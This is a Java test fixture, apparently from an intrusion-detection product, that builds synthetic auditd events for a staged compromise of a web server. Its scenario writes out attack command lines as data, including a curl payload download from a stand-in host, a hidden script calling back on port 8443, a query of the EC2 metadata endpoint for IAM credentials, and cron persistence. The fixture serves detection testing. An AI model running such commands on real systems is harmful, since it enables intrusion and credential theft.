package dev.yagura.detection;

import dev.yagura.common.ids.AssetIds;
import dev.yagura.proto.telemetry.v1.ConnectionInfo;
import dev.yagura.proto.telemetry.v1.Device;
import dev.yagura.proto.telemetry.v1.Event;
import dev.yagura.proto.telemetry.v1.File;
import dev.yagura.proto.telemetry.v1.NetworkEndpoint;
import dev.yagura.proto.telemetry.v1.Process;
import dev.yagura.proto.telemetry.v1.User;
import dev.yagura.proto.type.v1.Scope;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** Events of one host, as an agent would make them. */
public final class TestEvents {
    public static final Scope SCOPE =
            Scope.newBuilder()
                    .setPartition("aws")
                    .setAccountId("111122223333")
                    .setRegion("ap-northeast-1")
                    .build();

    /** In the middle of an hour. */
    public static final long START_NS =
            Instant.parse("2026-11-24T04:20:00Z").getEpochSecond() * 1_000_000_000L;

    private final List<Event> events = new ArrayList<>();
    private final Map<Integer, Process> processes = new HashMap<>();
    private long nowNs = START_NS;

    public static Device host(String instanceId) {
        return Device.newBuilder()
                .setHostId(AssetIds.of(SCOPE, "AWS::EC2::Instance", instanceId).toString())
                .setScope(SCOPE)
                .setInstanceId(instanceId)
                .setHostname("web-" + instanceId.charAt(instanceId.length() - 1))
                .setOs("linux")
                .build();
    }

    /** The recorded intrusion, in short. */
    public static TestEvents scenario() {
        TestEvents events = new TestEvents();
        events.exec(1, 0, "/usr/lib/systemd/systemd", "/sbin/init", "root");
        events.exec(40, 1, "/usr/sbin/cron", "/usr/sbin/cron -f", "root");
        events.exec(756, 1, "/usr/bin/python3.11", "/usr/bin/python3 /srv/shop/app.py", "www-data");
        events.exec(805, 756, "/usr/bin/dash", "/bin/sh -c id; whoami", "www-data");
        events.exec(
                835,
                805,
                "/usr/bin/curl",
                "curl -s -o /tmp/.payload http://203.0.113.66/x",
                "www-data");
        events.connect(835, "203.0.113.66", 80);
        events.exec(855, 805, "/usr/bin/bash", "/bin/bash /tmp/.sysupd", "www-data");
        events.connect(855, "203.0.113.66", 8443);
        events.exec(
                877,
                805,
                "/usr/bin/curl",
                "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
                "www-data");
        events.exec(
                898, 805, "/usr/bin/dash", "/bin/sh -c cp /tmp/.sysupd /var/tmp/.sysupd", "root");
        events.write(898, "/var/tmp/.sysupd");
        events.write(898, "/etc/cron.d/sysupd");
        events.exec(1294, 40, "/usr/bin/dash", "/bin/sh -c /var/tmp/.sysupd >/dev/null", "root");
        events.exec(1298, 1294, "/usr/bin/bash", "/bin/bash /var/tmp/.sysupd", "root");
        events.connect(1298, "203.0.113.66", 8443);
        return events;
    }

    public TestEvents exec(int pid, int parent, String path, String commandLine, String user) {
        Process.Builder process =
                Process.newBuilder()
                        .setUid("auditd:boot:" + nowNs + ":" + pid)
                        .setPid(pid)
                        .setStartTimeNs(nowNs)
                        .setPath(path)
                        .setCmdLine(commandLine)
                        .setUser(User.newBuilder().setName(user));
        Process by = processes.getOrDefault(parent, Process.getDefaultInstance());
        process.setParentUid(by.getUid()).setParentPid(parent).setParentPath(by.getPath());
        processes.put(pid, process.build());
        add(Event.newBuilder().setClassUid(1007).setActivityId(1).setProcess(process).setActor(by));
        return this;
    }

    public TestEvents connect(int pid, String ip, int port) {
        add(
                Event.newBuilder()
                        .setClassUid(4001)
                        .setActivityId(1)
                        .setActor(process(pid))
                        .setConnection(
                                ConnectionInfo.newBuilder().setProtocol("tcp").setInitiated(true))
                        .setDstEndpoint(NetworkEndpoint.newBuilder().setIp(ip).setPort(port)));
        return this;
    }

    public TestEvents write(int pid, String path) {
        add(
                Event.newBuilder()
                        .setClassUid(1001)
                        .setActivityId(1)
                        .setActor(process(pid))
                        .setFile(File.newBuilder().setPath(path)));
        return this;
    }

    public Process process(int pid) {
        return processes.getOrDefault(pid, Process.getDefaultInstance());
    }

    private void add(Event.Builder event) {
        events.add(event.setTimeNs(nowNs).setObservedTimeNs(nowNs).setSource("auditd").build());
        nowNs += 1_000_000_000L;
    }

    public List<Event> all() {
        return List.copyOf(events);
    }
}
